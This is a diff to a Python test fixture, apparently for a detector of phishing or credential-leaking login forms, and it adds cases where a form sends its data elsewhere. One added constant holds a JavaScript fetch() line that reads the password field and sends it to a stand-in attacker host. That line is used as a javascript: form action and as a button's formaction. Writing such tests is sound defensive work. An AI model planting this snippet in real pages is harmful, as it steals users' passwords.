@@ -20,6 +20,12 @@ LISTENING = f"""<script>
 """A document of somebody else, who tells home whatever comes in."""
 
 
+TELLING = (
+    f"fetch('{EVIL}/heard?' + encodeURIComponent(document.getElementById('pass').value), {{mode: 'no-cors'}})"
+)
+"""A script that hands the password on."""
+
+
 def form(attributes: str = "method=post action=/in", inside: str = FIELDS, script: str = "") -> str:
     """A form to sign in with."""
     return f"<!doctype html><form id=f {attributes}>{inside}</form>" + (
@@ -84,6 +90,16 @@ FORMS = [
         "action with a login", form(f"method=post action={PORTAL}@evil.example/in"), f"{ELSEWHERE} {EVIL}"
     ),
     at_home("action of mail", form("method=post action=mailto:kim@evil.example"), ELSEWHERE),
+    at_home("action of a script", form(f'method=post action="javascript:{TELLING}"'), ELSEWHERE),
+    at_home(
+        "button's own action of a script",
+        form(inside=FIELDS.replace("id=go", f'formaction="javascript:{TELLING}"')),
+        ELSEWHERE,
+    ),
+    *(
+        at_home(f"field for another secret: {label}", form(inside=FIELDS.replace("Password", label)))
+        for label in ("PIN", "Card number", "Wi-Fi password")
+    ),
     at_home("action that is none", form('method=post action="https://[evil/"'), ELSEWHERE),
     at_home("button's own action", form(inside=FIELDS.replace("id=go", f"formaction={EVIL}/in")), ELSEWHERE),
     at_home(
@@ -329,6 +345,10 @@ HONEST = [
     ),
     at_home(
         "in a shadow", f"<p id=h></p><script>h.attachShadow({{mode: 'open'}}).innerHTML = `{GOOD}`</script>"
+    ),
+    at_home(
+        "whose action is a script that does nothing",
+        form('method=post action="javascript:void(0)"', script="f.onsubmit = () => { f.action = '/in' }"),
     ),
     Shape(
         "of a provider, in a stranger's page",
